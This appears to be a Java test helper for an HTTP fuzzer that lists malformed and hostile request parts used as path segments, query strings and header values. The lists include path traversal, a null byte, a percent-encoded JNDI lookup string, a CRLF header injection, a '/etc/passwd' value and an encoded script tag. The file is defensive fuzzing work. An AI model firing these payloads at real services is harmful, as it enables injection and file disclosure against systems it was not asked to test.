package org.reachback.testing.fuzz;

import java.util.List;

/**
 * Hostile parts of a request's target and headers, in wire form: what a client puts on the line,
 * malformed percent escapes included (those go out over a plain socket, as the JDK's client refuses them).
 */
final class HostileTargets {

	/** Path segments in place of a path parameter. */
	static final List<String> PATH_SEGMENTS = List.of("not-a-uuid", "%00", "a%00b", "%2F", "%2e%2e", "..", ".", "%20",
			"%ff", "%C0%AF", "%25", "%", "%zz", "%u0000", ";x=1", "null", "-1", "0", "9223372036854775808",
			"00000000-0000-0000-0000-0000000000000", "123e4567e89b12d3a456426614174000",
			"%7B123e4567-e89b-12d3-a456-426614174000%7D", "a".repeat(3000), "%C3%A9", "%F0%9F%98%80", "%27", "%22",
			"%3Cscript%3E", "%24%7Bjndi:ldap://x/a%7D", "%0d%0aX-Injected:%201", "%E2%80%AE", "%ED%A0%80");

	/** Whole query strings (after the {@code ?}) to put in place of, or after, the valid one. */
	static final List<String> QUERIES = List.of("=x", "a=%", "a=%zz", "&&&", "a", "a=", "=", "%00=1", "a=1&a=2",
			"a[]=1", "a.b=1", "a=%00", "a=%ff", "a=%C0%AF", "a=" + "x".repeat(Hostile.LONG), "a=" + "x".repeat(4000),
			"a=%2Fetc%2Fpasswd", "a=1;b=2", "a=1%26b=2", "a=%0d%0aX-Injected:%201", "a==b");

	/** Values of a query parameter. */
	static final List<String> QUERY_VALUES = List.of("", "%00", "%", "%zz", "abc", "1e400", "99999999999999999999",
			"-99999999999999999999", "1.5", "-1", "0x10", "%20", "true", "NaN", "x".repeat(4000), "%ED%A0%80",
			"%F0%9F%98%80", "a%00b", "null", "%2C%2C");

	/** Values of a header parameter, some of which the JDK's client would refuse to send. */
	static final List<String> HEADER_VALUES = List.of("", " ", "-1", "99999999999999999999", "abc", "\u00e9\u00ff",
			"x".repeat(7000), "1, 2", "\u0000", "a\u0001b", "\ud83d\ude00", "0x1F", "1e400");

	private HostileTargets() {
	}

}
